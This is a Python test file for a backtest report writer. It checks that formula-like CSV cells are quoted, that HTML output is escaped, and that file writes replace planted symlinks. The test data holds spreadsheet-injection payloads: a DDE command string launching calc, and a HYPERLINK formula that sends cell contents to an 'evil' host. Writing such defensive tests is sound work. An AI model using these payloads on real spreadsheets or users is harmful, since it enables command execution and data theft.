"""The report's files: no spreadsheet formula gets into a CSV cell (text that starts like
one is quoted; numbers stay numbers), the HTML escapes what it shows, and every file is
written whole and never through a link planted where it goes."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import numpy as np
import pytest

from sovereign.config import from_dict
from sovereign.core import NO_AGENT
from sovereign.market.datafile import Market, write
from sovereign.research import backtest as engine
from sovereign.research import report
from tests.research.test_backtest import sim_market

CLI = [sys.executable, "-m", "sovereign.cli"]
T = 1_767_225_600 * 1_000_000_000
FORMULAS = ["=HYPERLINK(\"http://x\",\"y\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _trade(symbol: str, pnl: str, reason: str = "tp") -> report.Trade:
    return report.Trade(symbol, 1, 0, T, T + 60 * 10**9, Decimal("1"), Decimal("1.1"), Decimal("1.2"),
                        Decimal(pnl), Decimal("7"), reason)  # fmt: skip


def _write(out: Path, trades: list[report.Trade], orders: list[dict] | None = None,
           equity: list[tuple[int, Decimal]] | None = None) -> list[Path]:  # fmt: skip
    doc = {"data": {"symbols": [t.symbol for t in trades], "kind": "ticks", "first": "", "last": "",
                    "records": 0}, "run": {"agents": 1, "signals": 0, "orders": 0},
           "metrics": {"initial": "100000.00"}, "per_symbol": [], "per_agent": []}  # fmt: skip
    prices = {t.symbol: (np.array([T, T + 10**9]), np.array([1.1, 1.2])) for t in trades}
    return report.write(out, doc, trades, equity or [(T, Decimal("-5.5"))], orders or [], prices)


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="") as f:
        return list(csv.DictReader(f))


# ---- formula injection


def test_csv_cells_that_start_like_a_formula_are_quoted(tmp_path: Path) -> None:
    trades = [_trade(s, "-12.5", reason=s) for s in FORMULAS]
    orders = [{"ts_ns": T, "client_order_id": 1, "symbol": 0, "side": -1, "agent": NO_AGENT,
               "conviction": -0.5, "volume": 1.0, "price": -1.25, "sl": 0.0, "tp": 0.0, "state": "REJECTED",
               "reason": f} for f in FORMULAS]  # fmt: skip
    _write(tmp_path, trades, orders)
    rows = _rows(tmp_path / "trades.csv")
    quoted = ["'" + s.replace("\r", "\n") for s in FORMULAS]  # a bare CR would end the row unquoted
    assert [r["symbol"] for r in rows] == quoted and [r["exit_reason"] for r in rows] == quoted
    assert {r["pnl"] for r in rows} == {"-12.50"} and {r["net"] for r in rows} == {"-19.50"}  # numbers stay
    orders_rows = _rows(tmp_path / "orders.csv")
    assert [r["reason"] for r in orders_rows] == quoted
    assert {(r["side"], r["conviction"], r["price"]) for r in orders_rows} == {("SELL", "-0.5", "-1.25000")}
    assert _rows(tmp_path / "equity.csv")[0]["equity"] == "-5.50"
    # The HTML shows the text as it is, escaped.
    html = (tmp_path / "report.html").read_text()
    assert "=HYPERLINK(&quot;http://x&quot;,&quot;y&quot;)" in html and "'=HYPERLINK" not in html


@pytest.mark.parametrize("text", ["-12.50", "+3", "-1e-5", "-0.00", "1,5", "EURUSD", "", "long", "risk"])
def test_plain_numbers_and_text_are_written_as_they_are(tmp_path: Path, text: str) -> None:
    _write(tmp_path, [_trade(text or "X", "1", reason=text)])
    assert _rows(tmp_path / "trades.csv")[0]["exit_reason"] == text


def test_a_carriage_return_inside_text_cannot_start_a_row(tmp_path: Path) -> None:
    _write(tmp_path, [_trade("A", "1", reason="x\r=1+1\r\n@y"), _trade("B", "1")])
    raw = (tmp_path / "trades.csv").read_bytes()
    assert b"\r" not in raw and raw.count(b"\n=1+1") == 1 and raw.count(b"\n@y") == 1
    assert [r["exit_reason"] for r in _rows(tmp_path / "trades.csv")] == ["x\n=1+1\n@y", "tp"]


def test_a_backtest_over_a_symbol_named_like_a_formula_writes_it_quoted(tmp_path: Path) -> None:
    """Data files refuse such names (sovereign.market.data); a Market built in code does not, and
    the report is the last line of defence."""
    name = '=HYPERLINK("http://evil/"&A1,"x")'
    m = sim_market(1, 60_000, seed=7)
    market = Market(m.kind, m.records, [name])
    bt = engine.run(from_dict({}), market)
    doc, trades, prices = report.build(bt, market)
    report.write(tmp_path, doc, trades, bt.out.equity, bt.out.orders, prices)
    rows = _rows(tmp_path / "trades.csv")
    assert rows and {row["symbol"] for row in rows} == {"'" + name}


# ---- writes never follow a planted link


def test_report_files_replace_planted_links_and_leave_their_targets_alone(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    names = ["report.json", "trades.csv", "equity.csv", "orders.csv", "equity.png", "price_EURUSD.png",
             "report.html"]  # fmt: skip
    victims = {}
    for name in names:
        victim = tmp_path / f"victim_{name}"
        victim.write_bytes(b"precious")
        (out / name).symlink_to(victim)
        victims[name] = victim
    written = _write(out, [_trade("EURUSD", "1")])
    assert sorted(p.name for p in written) == sorted(names)
    for name, victim in victims.items():
        assert victim.read_bytes() == b"precious", name
        assert (out / name).is_file() and not (out / name).is_symlink(), name
    assert sorted(os.listdir(out)) == sorted(names)  # no temporary file left behind


def test_cli_save_state_replaces_a_planted_link(tmp_path: Path) -> None:
    data = write(tmp_path / "d.sovdata", sim_market(1, 5_000))
    victim = tmp_path / "victim"
    victim.write_bytes(b"precious")
    state = tmp_path / "run.state"
    state.symlink_to(victim)
    out = tmp_path / "o"
    out.mkdir()
    (out / "report.json").symlink_to(victim)
    r = subprocess.run([*CLI, "backtest", str(data), "--save-state", str(state), "--out", str(out)],
                       capture_output=True, text=True)  # fmt: skip
    assert r.returncode == 0, r.stderr
    assert victim.read_bytes() == b"precious"
    assert state.is_file() and not state.is_symlink() and state.read_bytes().startswith(b"SOVBT")
    assert (out / "report.json").is_file() and not (out / "report.json").is_symlink()


def test_write_atomic_takes_the_umask_and_cleans_up(tmp_path: Path) -> None:
    from sovereign.files import write_atomic

    old = os.umask(0o027)
    try:
        write_atomic(tmp_path / "a", b"one")
    finally:
        os.umask(old)
    assert (tmp_path / "a").read_bytes() == b"one" and (tmp_path / "a").stat().st_mode & 0o777 == 0o640
    write_atomic(tmp_path / "a", b"two")
    assert (tmp_path / "a").read_bytes() == b"two"
    (tmp_path / "d").mkdir()
    with pytest.raises(IsADirectoryError):
        write_atomic(tmp_path / "d", b"x")  # a directory in the way: refused, nothing left behind
    assert sorted(os.listdir(tmp_path)) == ["a", "d"] and not os.listdir(tmp_path / "d")
